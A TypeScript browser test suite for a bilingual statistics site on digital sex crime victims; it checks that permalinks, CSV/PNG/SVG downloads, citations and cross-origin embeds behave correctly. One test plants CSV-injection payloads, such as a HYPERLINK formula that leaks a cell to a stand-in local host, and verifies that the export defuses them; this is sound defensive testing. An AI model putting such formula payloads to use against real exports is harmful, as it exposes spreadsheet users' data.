/**
 * Share, embed, download and cite, in real Chromium against the built site: permalinks reproduce the view
 * (reload, other language), an embed pasted into a page on another origin renders, resizes and stays on the
 * site's origin (JS on and off), downloads match what is shown, and the citation names what it must.
 */
import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import type { Browser, Page } from "playwright-core";
import { baseUrl, launch, open, waitForRedraw } from "./browser";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
});

const OUT = process.env.DSC_OUT ?? "dist";
const release = () => (JSON.parse(readFileSync(`${OUT}/data/manifest.json`, "utf8")) as { release: string }).release;
const FIG = 'figure[data-chart="victims"]';

/** The overview's main chart, switched to 2020–2024 (a view that differs from the default). */
async function changedView(page: Page): Promise<void> {
  await page.locator(`${FIG} [data-action="copy-link"]`).waitFor({ state: "visible" });
  await waitForRedraw(page, "victims", () => page.selectOption(`${FIG} select[name="from"]`, "2020"));
}

async function shownTable(page: Page) {
  return page.evaluate((sel) => {
    const t = document.querySelector(`${sel} [data-table] table`)!;
    return {
      head: [...t.querySelectorAll("thead th")].map((th) => th.textContent!.trim()),
      rows: [...t.querySelectorAll("tbody tr")].map((tr) =>
        [...tr.querySelectorAll("td")].map((td) => td.textContent!.trim()),
      ),
    };
  }, FIG);
}

const spec = (page: Page) =>
  page.evaluate(
    (sel) => JSON.parse(document.querySelector<HTMLElement>(sel)!.dataset.spec!) as { from: number; to: number },
    FIG,
  );

async function downloadText(page: Page, action: string): Promise<Buffer> {
  const [dl] = await Promise.all([page.waitForEvent("download"), page.click(`${FIG} [data-action="${action}"]`)]);
  return readFileSync((await dl.path())!);
}

describe("copy link", () => {
  it("reproduces the chart and table, after reload and in the other language", async () => {
    const t = await open(browser, "/en/");
    const { page } = t;
    await changedView(page);
    const before = await shownTable(page);
    await page.click(`${FIG} [data-action="copy-link"]`);
    // The actions module loads on first use: the link is written when its box opens, not at the click.
    await page.locator(`${FIG} [data-link-fallback]`).waitFor({ state: "visible" });
    const link = await page.inputValue(`${FIG} [data-link-field]`);
    expect(link).toBe(`${baseUrl()}/en/?from=2020#chart-victims`);
    expect(await page.locator(`${FIG} [data-link-fallback]`).isVisible()).toBe(true);

    const again = await open(browser, link.replace(baseUrl(), ""));
    await again.page.waitForFunction((sel) => document.querySelector(sel)?.getAttribute("data-redraw-ms"), FIG);
    expect((await spec(again.page)).from).toBe(2020);
    expect(await shownTable(again.page)).toEqual(before);
    await again.page.reload({ waitUntil: "load" });
    await again.page.waitForFunction((sel) => document.querySelector(sel)?.getAttribute("data-redraw-ms"), FIG);
    expect(await shownTable(again.page)).toEqual(before);

    const ko = await open(browser, link.replace(baseUrl(), "").replace("/en/", "/ko/"));
    await ko.page.waitForFunction((sel) => document.querySelector(sel)?.getAttribute("data-redraw-ms"), FIG);
    expect((await spec(ko.page)).from).toBe(2020);
    const koTable = await shownTable(ko.page);
    // Periods read in each language ("Jan–Sep 2021" / "2021년 1~9월"): the same rows have the same years and values.
    const yearsAndValue = (rows: string[][]) => rows.map((r) => [r[0]!.match(/\d{4}/g), r[1]]);
    expect(yearsAndValue(koTable.rows)).toEqual(yearsAndValue(before.rows));
    expect(koTable.rows.length).toBe(before.rows.length);
    for (const x of [t, again, ko]) {
      expect(x.foreign).toEqual([]);
      expect(x.errors).toEqual([]);
      await x.context.close();
    }
  });
});

describe("downloads", () => {
  it("CSV of the current view equals the table shown; full-series CSV has every row of the series", async () => {
    const t = await open(browser, "/en/");
    const { page } = t;
    await changedView(page);
    const shown = await shownTable(page);
    const buf = await downloadText(page, "csv");
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.toString("utf8").slice(1);
    expect(text).toContain("\r\n");
    const lines = text
      .trimEnd()
      .split("\r\n")
      .map((l) => l.split(","));
    // The columns shown, then the period in ISO 8601 for software (the table shows it as people write it).
    expect(lines[0]).toEqual([...shown.head, "Period (ISO 8601)"]);
    expect(lines.length - 1).toBe(shown.rows.length);
    for (const l of lines.slice(1))
      expect(l[l.length - 1]).toMatch(/^\d{4}(-\d{2}(-\d{2})?)?(\/\d{4}-\d{2}(-\d{2})?)?$/);
    const norm = (s: string) => s.replace(/^"|"$/g, "").replace(/[,\s%]/g, "");
    shown.rows.forEach((r, i) =>
      r.forEach((cell, j) => {
        if (cell === "no data") expect(lines[i + 1]![j]).toBe("");
        else if (j < r.length - 1) expect(norm(lines[i + 1]![j]!), `row ${i} col ${j}`).toBe(norm(cell));
      }),
    );
    const series = (await downloadText(page, "csv-series")).toString("utf8").slice(1).trimEnd().split("\r\n");
    const all = readFileSync(`${OUT}/data/observations.csv`, "utf8")
      .split(/\r?\n/)
      .filter((l) => l.startsWith("dsc_victims,"));
    expect(series[0]).toMatch(/^series_id,/);
    expect(series.length - 1).toBe(all.length);
    expect(series.slice(1).every((l) => l.startsWith("dsc_victims,"))).toBe(true);
    expect(t.errors).toEqual([]);
    await t.context.close();
  });

  it("CSV download neutralises formula-leading text and keeps negative numbers numbers (OWASP CSV injection)", async () => {
    const t = await open(browser, "/en/");
    const { page } = t;
    await page.locator(`${FIG} [data-action="csv"]`).waitFor({ state: "visible" });
    // The download is made from the table embedded in the page; put hostile cells in it, as text that slipped
    // past the data validation would arrive.
    await page.evaluate((sel) => {
      const el = document.querySelector(`${sel} script[data-payload]`)!;
      const c = JSON.parse(el.textContent!) as { actions: { table: { columns: string[]; raw: unknown[][] } } };
      c.actions.table.columns = ["=label", "value"];
      c.actions.table.raw = [
        ['=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"Click for details")', -5],
        ["+1+1", -0.25],
        ["-1+1", 0],
        ["@SUM(1+1)", 12],
        ["\t=1+1", null],
        ["\r=1+1", 1],
        ["-5", 2],
        ["Female", 3],
      ];
      el.textContent = JSON.stringify(c);
    }, FIG);
    const text = (await downloadText(page, "csv")).toString("utf8").slice(1);
    const rows = Papa.parse<string[]>(text, { delimiter: ",", skipEmptyLines: true }).data;
    expect(rows).toEqual([
      ["'=label", "value"],
      [`'=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"Click for details")`, "-5"],
      ["'+1+1", "-0.25"],
      ["'-1+1", "0"],
      ["'@SUM(1+1)", "12"],
      ["'\t=1+1", ""],
      ["'\r=1+1", "1"],
      ["-5", "2"],
      ["Female", "3"],
    ]);
    // Negative numbers are written bare (a spreadsheet reads them as numbers), never quoted or prefixed.
    expect(text).toContain(`\r\n"'-1+1",0\r\n`);
    expect(text).toMatch(/,-5\r\n/);
    expect(t.errors).toEqual([]);
    await t.context.close();
  });

  it("PNG and SVG open as images with title, source, release and date", async () => {
    const t = await open(browser, "/ko/");
    const { page } = t;
    await page.locator(`${FIG} [data-action="png"]`).waitFor({ state: "visible" });
    const png = await downloadText(page, "png");
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    expect(png.length).toBeGreaterThan(5000);
    const svg = (await downloadText(page, "svg")).toString("utf8");
    const title = (await page.textContent(`${FIG} [data-title]`))!.trim();
    const publisher = (await page.locator(`${FIG} [data-sources] a[href^='http']`).first().textContent())!.trim();
    const parsed = await page.evaluate((s) => {
      const d = new DOMParser().parseFromString(s, "image/svg+xml");
      return { error: d.querySelector("parsererror")?.textContent ?? "", text: d.documentElement.textContent ?? "" };
    }, svg);
    expect(parsed.error).toBe("");
    expect(parsed.text).toContain(title);
    expect(parsed.text).toContain(publisher);
    expect(parsed.text).toContain(`데이터 릴리스 ${release()}`);
    // An image element must decode it (what a reader's viewer does).
    const ok = await page.evaluate(async (s) => {
      const img = new Image();
      img.src = `data:image/svg+xml;charset=utf-8,${encodeURIComponent(s)}`;
      await img.decode();
      return img.naturalWidth;
    }, svg);
    expect(ok).toBeGreaterThan(300);
    expect(t.errors).toEqual([]);
    await t.context.close();
  });

  it("static image of the default view has a stable URL and is SVG", async () => {
    const r = await fetch(`${baseUrl()}/en/embed/victims/`);
    expect(r.status).toBe(200);
    const s = await fetch(`${baseUrl()}/static-charts/en/victims.svg`);
    expect(s.status).toBe(200);
    expect(s.headers.get("content-type")).toBe("image/svg+xml");
    const body = await s.text();
    expect(body).toContain("Victims supported by the Digital Sex Crime Victim Support Center");
    expect(body).toContain(`data release ${release()}`);
  });
});

describe("cite", () => {
  it("names producer, period, release and permalink, in both languages", async () => {
    for (const lang of ["en", "ko"] as const) {
      const t = await open(browser, `/${lang}/`);
      const { page } = t;
      await changedView(page);
      await page.click(`${FIG} [data-cite] summary`);
      const publisher = (await page.locator(`${FIG} [data-sources] a[href^='http']`).first().textContent())!.trim();
      await page.waitForFunction(
        (sel) => document.querySelector(sel)?.textContent?.includes("from=2020"),
        `${FIG} [data-cite-text]`,
      );
      const cite = (await page.textContent(`${FIG} [data-cite-text]`))!;
      expect(cite).toContain(publisher);
      expect(cite).toContain(lang === "ko" ? "2020–2024년" : "2020–2024");
      expect(cite).toContain(release());
      expect(cite).toContain(`${baseUrl()}/${lang}/?from=2020#chart-victims`);
      expect(cite).toMatch(lang === "ko" ? /\d{4}년 \d{1,2}월 \d{1,2}일 접속/ : /accessed \d{1,2} \w{3} \d{4}/);
      await t.context.close();
    }
  });
});

describe("embed on another origin", () => {
  async function host(js: boolean) {
    const alt = inject("altBaseUrl");
    expect(alt, "second origin for host pages").not.toBe("");
    const t = await open(browser, "/en/");
    await t.page.locator(`${FIG} [data-action="copy-link"]`).waitFor({ state: "visible" });
    await t.page.click(`${FIG} [data-embed] summary`);
    await t.page.waitForFunction(
      (sel) => document.querySelector<HTMLTextAreaElement>(sel)!.value.includes(location.origin),
      `${FIG} [data-embed-code]`,
    );
    const code = await t.page.inputValue(`${FIG} [data-embed-code]`);
    await t.context.close();
    expect(code).toContain(`<iframe src="${baseUrl()}/en/embed/victims/"`);
    const context = await browser.newContext({ javaScriptEnabled: js });
    const page = await context.newPage();
    const site = new URL(baseUrl()).origin;
    const fromFrame: string[] = [];
    page.on("request", (r) => {
      if (r.frame() !== page.mainFrame() && new URL(r.url()).origin !== site) fromFrame.push(r.url());
    });
    // The code pasted into a page served by the second origin, under a host CSP that allows only the site.
    await context.route(`${alt}/paste.html`, (route) =>
      route.fulfill({
        status: 200,
        contentType: "text/html; charset=utf-8",
        headers: { "Content-Security-Policy": `default-src 'self'; frame-src ${site}/; script-src 'self' ${site}/` },
        body: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title></head><body><h1>News story</h1><p>Text before.</p>\n${code}\n<p>Text after.</p></body></html>`,
      }),
    );
    await page.goto(`${alt}/paste.html`, { waitUntil: "load" });
    const frame = page.frameLocator("iframe");
    const el = await page.waitForSelector("iframe");
    const f = await el.contentFrame();
    await f!.waitForLoadState("load");
    expect(f!.url(), "the iframe loaded the embed route").toBe(`${baseUrl()}/en/embed/victims/`);
    await frame.locator("figure[data-chart='victims'] svg[role=img]").first().waitFor({ state: "attached" });
    return { context, page, frame, fromFrame };
  }

  it("renders, fits its height to the content and requests only the site's origin (JS on)", async () => {
    const { context, page, frame, fromFrame } = await host(true);
    await page.waitForFunction(() => document.querySelector("iframe")?.hasAttribute("data-dsc-stats-resized"));
    const iframeH = () => page.evaluate(() => document.querySelector("iframe")!.getBoundingClientRect().height);
    const contentH = () => frame.locator("body").evaluate((b) => Math.ceil(b.getBoundingClientRect().height));
    // Resizing can reflow the embed once more (a scrollbar disappears), so wait for the size to settle.
    await expect
      .poll(async () => Math.abs((await iframeH()) - (await contentH())), { timeout: 15_000 })
      .toBeLessThanOrEqual(2);
    expect(await iframeH()).not.toBe(620);
    expect(await frame.locator("a[data-full-view]").getAttribute("target")).toBe("_blank");
    expect(await frame.locator("table.data tbody tr").count()).toBeGreaterThan(0);
    expect(fromFrame).toEqual([]);
    await context.close();
  });

  it("works with JavaScript disabled: the pre-rendered chart, table and source line", async () => {
    const { context, frame, fromFrame } = await host(false);
    expect(await frame.locator("[data-sources] a[href^='http']").count()).toBeGreaterThan(0);
    expect(await frame.locator("table.data tbody tr").count()).toBeGreaterThan(0);
    expect(await frame.locator("h1").textContent()).toContain("Victims supported");
    expect(fromFrame).toEqual([]);
    await context.close();
  });

  it("non-embed pages refuse to be framed; embeds and the resize script may be used cross-origin", async () => {
    const page = await fetch(`${baseUrl()}/en/`);
    expect(page.headers.get("x-frame-options")).toBe("DENY");
    const embed = await fetch(`${baseUrl()}/en/embed/victims/`);
    expect(embed.headers.get("content-security-policy")).toContain("frame-ancestors *");
    const script = await fetch(`${baseUrl()}/embed-resize.js`);
    expect(script.headers.get("cross-origin-resource-policy")).toBe("cross-origin");
  });
});
